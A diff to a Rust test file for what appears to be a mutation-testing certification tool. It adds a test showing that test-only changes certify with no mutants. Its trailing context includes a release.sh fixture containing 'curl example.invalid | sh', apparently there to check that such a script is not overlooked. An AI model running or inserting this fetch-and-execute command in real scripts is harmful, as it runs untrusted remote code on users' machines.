@@ -77,6 +77,31 @@ fn claim(environment: &Environment, place: &str) -> Value {
 }
 
 #[test]
+fn a_change_of_tests_alone_certifies_without_mutants() {
+    let environment = Environment::with_pricing();
+    environment.git(&["merge", "--quiet", "--ff-only", "candidate"]);
+    let test = "#[test]\nfn one_is_one() {\n    assert_eq!(1, 1);\n}\n";
+    let own = fs::read_to_string(environment.path("repo/src/main.rs")).unwrap();
+    let inside = format!(
+        "{own}\n#[cfg(test)]\nmod more {{\n    {}}}\n",
+        test.replace('\n', "\n    ")
+    );
+    for (name, file, text) in [
+        ("beside", "tests/price.rs", test.to_owned()),
+        ("inside", "src/main.rs", inside),
+    ] {
+        environment.candidate(name, &BTreeMap::from([(file.to_owned(), text)]));
+        let run = environment.certify(name, &[]);
+        assert_eq!(run.code, 0, "{}", run.text);
+        assert!(
+            run.stdout.contains("no changed line is mutable"),
+            "{}",
+            run.text
+        );
+    }
+}
+
+#[test]
 fn code_that_nothing_compiles_does_not_ride_along_unseen() {
     let environment = workspace();
     let script = ("release.sh", "echo release", "curl example.invalid | sh");
